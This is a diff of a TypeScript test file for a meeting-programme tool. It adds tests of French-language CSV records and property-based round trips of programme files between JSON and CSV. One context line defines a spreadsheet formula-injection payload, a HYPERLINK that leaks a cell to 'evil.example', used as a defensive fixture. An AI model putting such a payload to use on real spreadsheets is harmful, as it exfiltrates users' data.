@@ -15,10 +15,10 @@ import {
   type CsvDelimiter,
   type CsvValue,
 } from '../../shared/csv.ts';
-import type { ProgrammeFile } from '../../shared/programme.ts';
+import { ITEM_KINDS, parseProgramme, type ProgrammeFile } from '../../shared/programme.ts';
 import { exportProgrammeCsv, importProgrammeCsv, parseCsv } from '../../shared/programmeCsv.ts';
 import { buildRecord, recordCsv } from '../../shared/record.ts';
-import { Driver, MINUTE, delegate } from './helpers.ts';
+import { Driver, MINUTE, delegate, plenary, plenaryJson } from './helpers.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
 const DELIMITERS: readonly CsvDelimiter[] = [',', ';'];
@@ -193,6 +193,35 @@ describe("the record's CSV", () => {
   });
 });
 
+describe("the record's CSV in the report's language", () => {
+  it('names segments, honorifics and delegations in French with lang fr, in English by default', () => {
+    const d = new Driver(plenary());
+    d.ok({ type: 'session.start' });
+    d.ok({ type: 'speaker.next', start: true });
+    d.tick(2 * MINUTE).ok({ type: 'segment.end' });
+    d.ok({ type: 'floor.open' });
+    d.ok({ type: 'floor.request', delegation: 'zaf', kind: 'statement' });
+    d.ok({ type: 'speaker.next', start: true });
+    d.tick(3 * MINUTE).ok({ type: 'speaker.finish' });
+    const record = buildRecord(d.state, d.now);
+    const rows = (lang?: string) =>
+      table(recordCsv(record, 'turns', ',', lang)).map((t) => [t.segment, t.speaker, t.delegation]);
+    expect(rows('fr')).toEqual([
+      ['Groupe de discussion interactif', 'S.E. M. Paul Wilke', ''],
+      ['Segment interactif — débat ouvert aux États Parties', 'Afrique du Sud', 'Afrique du Sud'],
+    ]);
+    expect(rows()).toEqual([
+      ['Interactive panel', 'Ambassador Paul Wilke', ''],
+      ['Interactive segment — open floor for States Parties', 'South Africa', 'South Africa'],
+    ]);
+    expect(table(recordCsv(record, 'segments', ',', 'fr')).map((s) => s.title)).toEqual([
+      'Groupe de discussion interactif',
+      'Segment interactif — débat ouvert aux États Parties',
+      'Observations finales',
+    ]);
+  });
+});
+
 /** A programme whose texts begin with every trigger, and with a quote before one. */
 const TRICKY: ProgrammeFile = {
   id: 'tricky',
@@ -330,4 +359,235 @@ describe("the programme's CSV", () => {
       ["'=already quoted", "l'Assemblée; a, b", '@mention "quoted"'],
     ]);
   });
+});
+
+/* A programme file, JSON → CSV → JSON. */
+
+/** Text as a spreadsheet cell holds it: quotes, delimiters, line breaks, formula characters. */
+const cellText = fc
+  .string({
+    unit: fc.constantFrom(
+      'a',
+      'Z',
+      'é',
+      '’',
+      ' ',
+      ',',
+      ';',
+      '"',
+      "'",
+      '=',
+      '+',
+      '-',
+      '@',
+      '\n',
+      'ع',
+    ),
+    minLength: 1,
+    maxLength: 12,
+  })
+  .filter((s) => s.trim() === s && s !== '');
+
+/** A text people read: plain, or some of the programme's languages (the first or not). */
+const localTextOf = (languages: readonly string[]) =>
+  fc.oneof(
+    cellText,
+    fc
+      .shuffledSubarray([...languages], { minLength: 1 })
+      .chain((codes) =>
+        fc
+          .tuple(...codes.map(() => cellText))
+          .map((texts) => Object.fromEntries(codes.map((code, i) => [code, texts[i] ?? '']))),
+      ),
+  );
+
+/** A duration as a file writes it: whole minutes, or "m:ss", to the second. */
+const durationOf = (maxSeconds: number) =>
+  fc
+    .integer({ min: 1, max: maxSeconds })
+    .chain((s) =>
+      s % 60 === 0
+        ? fc.constant<number | string>(s / 60)
+        : fc.constant(`${Math.floor(s / 60)}:${String(s % 60).padStart(2, '0')}`),
+    );
+
+const idText = fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,8}$/);
+
+const programmeFiles = fc
+  .constantFrom<readonly string[]>(['en', 'fr'], ['fr', 'en'], ['en'], ['en', 'fr', 'ar'])
+  .chain((languages) => {
+    const text = localTextOf(languages);
+    const item = (id: string) =>
+      fc
+        .record(
+          {
+            kind: fc.constantFrom(...ITEM_KINDS),
+            honorific: text,
+            name: cellText,
+            function: text,
+            organisation: text,
+            delegation: fc.constantFrom('nld', 'fra', 'icc-otp', 'zaf'),
+            topic: text,
+            minutes: durationOf(20 * 60),
+            thresholds: fc
+              .tuple(fc.integer({ min: 0, max: 300 }), fc.integer({ min: 0, max: 300 }))
+              .map(([a, b]) => [Math.max(a, b), Math.min(a, b)] as const),
+            note: cellText,
+          },
+          { requiredKeys: ['kind', 'name', 'minutes'] },
+        )
+        .map(
+          ({ honorific, function: fn, organisation, delegation, name, thresholds, ...rest }) => ({
+            id,
+            kind: rest.kind,
+            speaker: {
+              ...(honorific === undefined ? {} : { honorific }),
+              name,
+              ...(fn === undefined ? {} : { function: fn }),
+              ...(organisation === undefined ? {} : { organisation }),
+              ...(delegation === undefined ? {} : { delegation }),
+            },
+            ...(rest.topic === undefined ? {} : { topic: rest.topic }),
+            minutes: rest.minutes,
+            ...(thresholds === undefined
+              ? {}
+              : {
+                  warning: thresholds[0] / 60,
+                  danger: `0:${String(thresholds[1] % 60).padStart(2, '0')}`,
+                }),
+            ...(rest.note === undefined ? {} : { note: rest.note }),
+          }),
+        );
+    const times = fc.record(
+      {
+        statement: durationOf(600),
+        question: durationOf(600),
+        answer: durationOf(600),
+        reply: durationOf(600),
+        'point-of-order': durationOf(120),
+      },
+      { requiredKeys: [] },
+    );
+    return fc
+      .uniqueArray(idText, { minLength: 1, maxLength: 12 })
+      .chain((ids) => {
+        // Segments take ids from the front, their items from what is left.
+        const segmentCount = Math.max(1, Math.ceil(ids.length / 3));
+        const segmentIds = ids.slice(0, segmentCount);
+        const itemIds = ids.slice(segmentCount);
+        return fc.tuple(
+          ...segmentIds.map((id, s) =>
+            fc.oneof(
+              fc.record({
+                id: fc.constant(id),
+                kind: fc.constant('panel' as const),
+                title: text,
+                budget: durationOf(180 * 60),
+                items: fc.tuple(
+                  ...itemIds.filter((_, i) => i % segmentCount === s).map((itemId) => item(itemId)),
+                ),
+              }),
+              fc.record(
+                {
+                  id: fc.constant(id),
+                  kind: fc.constant('floor' as const),
+                  title: text,
+                  budget: durationOf(180 * 60),
+                  times,
+                },
+                { requiredKeys: ['id', 'kind', 'title', 'budget'] },
+              ),
+            ),
+          ),
+        );
+      })
+      .chain((segments) =>
+        fc.record({
+          title: text,
+          venue: text,
+          segments: fc.constant(segments),
+          languages: fc.constant(languages),
+        }),
+      );
+  })
+  .map(({ title, venue, segments, languages }): ProgrammeFile => ({
+    id: 'round-trip',
+    title,
+    venue,
+    dates: { from: '2016-11-16', to: '2016-11-24' },
+    plannedStart: '2016-11-17T10:00',
+    timeZone: 'Europe/Amsterdam',
+    languages: [...languages],
+    segments: segments as ProgrammeFile['segments'],
+  }));
+
+/**
+ * JSON → CSV → JSON. A spreadsheet carries every segment and item field; what it cannot carry
+ * comes with the upload (the session's id, title, venue, dates, planned start, time zone and
+ * languages: a spreadsheet has no room for the meeting itself), and the programme is compared as
+ * Gavel runs it, since a spreadsheet writes the same thing one way where JSON allows several:
+ * minutes as `12` or `"12:00"`, `{"en": "x"}` or `"x"` in a programme whose first language is
+ * English, a map's languages in any order. Durations go to the second: a file's `2.001` minutes
+ * would come back as `2:00`.
+ */
+function roundTrip(file: ProgrammeFile, delimiter: CsvDelimiter) {
+  const csv = exportProgrammeCsv(file, delimiter);
+  const back = importProgrammeCsv(csv, {
+    id: file.id,
+    title: file.title,
+    timeZone: file.timeZone,
+    plannedStart: file.plannedStart ?? null,
+    ...(file.venue === undefined ? {} : { venue: file.venue }),
+    ...(file.dates === undefined ? {} : { dates: file.dates }),
+    ...(file.languages === undefined ? {} : { languages: file.languages }),
+  });
+  return { csv, back };
+}
+
+describe('a programme file, JSON → CSV → JSON', () => {
+  it.each(DELIMITERS)(
+    'gives back any programme a spreadsheet can hold (delimiter %s)',
+    (delimiter) => {
+      fc.assert(
+        fc.property(programmeFiles, (file) => {
+          const before = parseProgramme(file);
+          if (!before.ok) throw new Error(JSON.stringify(before.problems));
+          const { csv, back } = roundTrip(file, delimiter);
+          if (!back.ok) throw new Error(`${JSON.stringify(back.problems)}\n${csv}`);
+          expect(back.programme).toEqual(before.programme);
+          // And the CSV of what came back is the same CSV.
+          expect(exportProgrammeCsv(back.file, delimiter)).toBe(csv);
+        }),
+        { numRuns: 150 },
+      );
+    },
+  );
+
+  it.each(DELIMITERS)(
+    'gives back the built-in plenary, in English and French (delimiter %s)',
+    (delimiter) => {
+      const file = plenaryJson() as unknown as ProgrammeFile;
+      const { csv, back } = roundTrip(file, delimiter);
+      if (!back.ok) throw new Error(JSON.stringify(back.problems));
+      expect(back.programme).toEqual(plenary());
+      const rows = table(csv, delimiter);
+      const bensouda = rows.find((r) => r['item id'] === 'bensouda');
+      expect(bensouda).toMatchObject({
+        segment: 'Interactive panel',
+        'segment (fr)': 'Groupe de discussion interactif',
+        honorific: 'Ms',
+        'honorific (fr)': 'Mme',
+        function: 'Prosecutor',
+        'function (fr)': 'Procureure',
+        delegation: 'icc-otp',
+      });
+      const floor = rows.find((r) => r['segment id'] === 'floor');
+      expect(floor).toMatchObject({
+        'segment kind': 'floor',
+        'statement time': '3',
+        'question time': '2',
+        'point of order time': '1',
+      });
+    },
+  );
 });
